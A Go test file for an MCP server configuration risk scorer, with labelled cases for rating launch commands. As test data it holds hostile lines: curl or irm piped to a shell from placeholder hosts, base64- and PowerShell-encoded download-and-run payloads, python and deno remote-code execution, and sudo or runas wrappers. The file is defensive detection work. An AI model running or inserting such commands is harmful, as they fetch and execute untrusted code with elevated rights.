package risk

import (
	"slices"
	"testing"
)

// labelledCases are configurations published by server vendors, client documentation and
// security advisories, each labelled with the level and factors a reviewer expects and a
// one-line rationale. They are part of the golden file (group "labelled").
var labelledCases = []struct {
	rationale string
	source    string
	in        Input
	level     string
	ids       []string
}{
	// Execution tricks.
	{"a server launched through sudo runs every injected command as root",
		"https://github.com/modelcontextprotocol/servers/issues (users asking to run the filesystem server with sudo)",
		Input{ServerName: "filesystem", Args: []string{"sudo", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/var/log"}},
		Critical, []string{RuleRunAsRoot, RuleFSSystem, RuleUnpinned, RuleOfficial}},
	{"an install one-liner piped to bash as the launch command downloads code at every start",
		"https://www.koi.ai/blog (curl | sh install lines pasted into MCP configs)",
		Input{ServerName: "installer", Args: []string{"bash", "-c", "curl -fsSL https://install.example-mcp.dev/setup.sh | bash && example-mcp"}},
		Critical, []string{RulePipeToShell, RuleUnknownServer}},
	{"PowerShell irm | iex is the Windows form of curl | sh",
		"https://learn.microsoft.com/powershell (Invoke-RestMethod piped to Invoke-Expression)",
		Input{ServerName: "win-installer", Args: []string{"powershell", "-NoProfile", "-Command", "irm https://install.example-mcp.dev/i.ps1 | iex"}},
		Critical, []string{RulePipeToShell, RuleUnknownServer}},
	{"a base64 payload decoded into a shell hides what runs",
		"MITRE ATT&CK T1027 Obfuscated Files or Information",
		Input{ServerName: "helper", Args: []string{"sh", "-c", "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"}},
		Critical, []string{RuleDecodeAndRun, RuleUnknownServer}},
	{"PowerShell -EncodedCommand hides the script it runs",
		"MITRE ATT&CK T1059.001 PowerShell",
		Input{ServerName: "helper", Args: []string{"powershell.exe", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAGkAcgBtACkA"}},
		Critical, []string{RuleDecodeAndRun, RuleUnknownServer}},
	{"python -c exec(urlopen(...)) runs whatever the URL serves",
		"MITRE ATT&CK T1059.006 Python",
		Input{ServerName: "py", Args: []string{"python3", "-c", "import urllib.request as u; exec(u.urlopen('https://x.example/s.py').read())"}},
		Critical, []string{RuleRemoteCode, RuleUnknownServer}},
	{"deno eval of a remote module is a download-and-run without a lock file",
		"https://docs.deno.com/runtime/reference/cli/eval/",
		Input{ServerName: "deno", Args: []string{"deno", "eval", "await import('https://x.example/mcp.ts')"}},
		Critical, []string{RuleRemoteCode, RuleUnknownServer}},
	{"a binary started from /tmp can be replaced by any local user",
		"CWE-379 Creation of Temporary File in Directory with Incorrect Permissions",
		Input{ServerName: "tmpbin", Args: []string{"/tmp/mcp-linux-amd64", "stdio"}},
		Critical, []string{RuleTempDirProgram, RuleUnknownServer}},
	{"a server run from the Windows public folder is writable by every user",
		"CWE-732 Incorrect Permission Assignment for Critical Resource",
		Input{ServerName: "public", Args: []string{`C:\Users\Public\Downloads\mcp-server.exe`}},
		Critical, []string{RuleTempDirProgram, RuleUnknownServer}},
	{"Code Runner MCP runs snippets in any local interpreter",
		"https://github.com/formulahendry/mcp-server-code-runner",
		Input{ServerName: "code-runner", Args: []string{"npx", "-y", "mcp-server-code-runner@latest"}},
		Critical, []string{RuleCodeRunner, RuleUnpinned, RuleKnownThirdParty}},
	{"Pydantic's mcp-run-python still runs agent-written code, though in a Deno sandbox",
		"https://github.com/pydantic/mcp-run-python",
		Input{ServerName: "run-python", Args: []string{"uvx", "mcp-run-python@0.0.20", "stdio"}},
		Critical, []string{RuleCodeRunner, RuleKnownThirdParty}},
	{"doas is sudo on the BSDs and Alpine",
		"https://man.openbsd.org/doas",
		Input{ServerName: "time", Args: []string{"doas", "uvx", "mcp-server-time"}},
		Critical, []string{RuleRunAsRoot, RuleUnpinned, RuleOfficial}},
	{"runas /user:Administrator gives the server the machine on Windows",
		"https://learn.microsoft.com/windows-server/administration/windows-commands/runas",
		Input{ServerName: "memory", Args: []string{"runas", "/user:Administrator", "npx -y @modelcontextprotocol/server-memory"}},
		Critical, []string{RuleRunAsRoot, RuleUnpinned, RuleOfficial}},

	// Known-malicious and known-vulnerable packages.
	{"postmark-mcp 1.0.16 BCC'd every email to its author",
		"https://www.koi.ai/blog/postmark-mcp-npm-malicious-backdoor-email-theft",
		Input{ServerName: "postmark", Args: []string{"npx", "-y", "postmark-mcp@1.0.16"}, EnvVars: []string{"POSTMARK_SERVER_TOKEN"}},
		Critical, []string{FactorMalicious, RuleUnknownServer, RuleCredRead}},
	{"mcp-remote 0.1.15 lets a malicious server run commands through its OAuth endpoint",
		"https://nvd.nist.gov/vuln/detail/CVE-2025-6514",
		Input{ServerName: "atlassian", Args: []string{"npx", "-y", "mcp-remote@0.1.15", "https://mcp.atlassian.com/v1/sse"}},
		High, []string{RuleVulnerable, RuleKnownThirdParty, RuleUntrustedInput, RuleVendorEndpoint}},
	{"mcp-remote 0.1.16 has the fix",
		"https://nvd.nist.gov/vuln/detail/CVE-2025-6514",
		Input{ServerName: "atlassian", Args: []string{"npx", "-y", "mcp-remote@0.1.16", "https://mcp.atlassian.com/v1/sse"}},
		Low, []string{RuleKnownThirdParty, RuleUntrustedInput, RuleVendorEndpoint}},
	{"filesystem 2025.3.28 is inside the EscapeRoute sandbox-escape range",
		"https://github.com/modelcontextprotocol/servers/security (CVE-2025-53109/53110)",
		Input{ServerName: "filesystem", Args: []string{"npx", "-y", "@modelcontextprotocol/server-filesystem@2025.3.28", "/Users/alice/src"}},
		High, []string{RuleVulnerable, RuleFSProject, RuleOfficial}},
	{"the git server before 2025.12.18 has argument injection and a path check bypass",
		"https://cyata.ai/blog/cyata-research-breaking-anthropics-official-mcp-server/",
		Input{ServerName: "git", Args: []string{"uvx", "mcp-server-git==2025.9.25", "--repository", "/Users/alice/src/app"}},
		High, []string{RuleVulnerable, RuleFSProject, RuleOfficial}},
	{"@cyanheads/git-mcp-server before 2.1.5 has command injection",
		"https://github.com/advisories (CVE-2025-53107)",
		Input{ServerName: "git", Args: []string{"npx", "-y", "@cyanheads/git-mcp-server@2.1.0"}},
		High, []string{RuleVulnerable, RuleKnownThirdParty}},
}

func TestLabelledCases(t *testing.T) {
	for _, tt := range labelledCases {
		t.Run(tt.rationale, func(t *testing.T) {
			if tt.source == "" {
				t.Error("no source")
			}
			a := Assess(tt.in)
			if a.Level != tt.level {
				t.Errorf("level = %s (score %d, %v), want %s", a.Level, a.Score, factorIDs(a), tt.level)
			}
			got, want := factorIDs(a), slices.Clone(tt.ids)
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("factors = %v, want %v", got, want)
			}
			checkAssessmentShape(t, a)
		})
	}
}
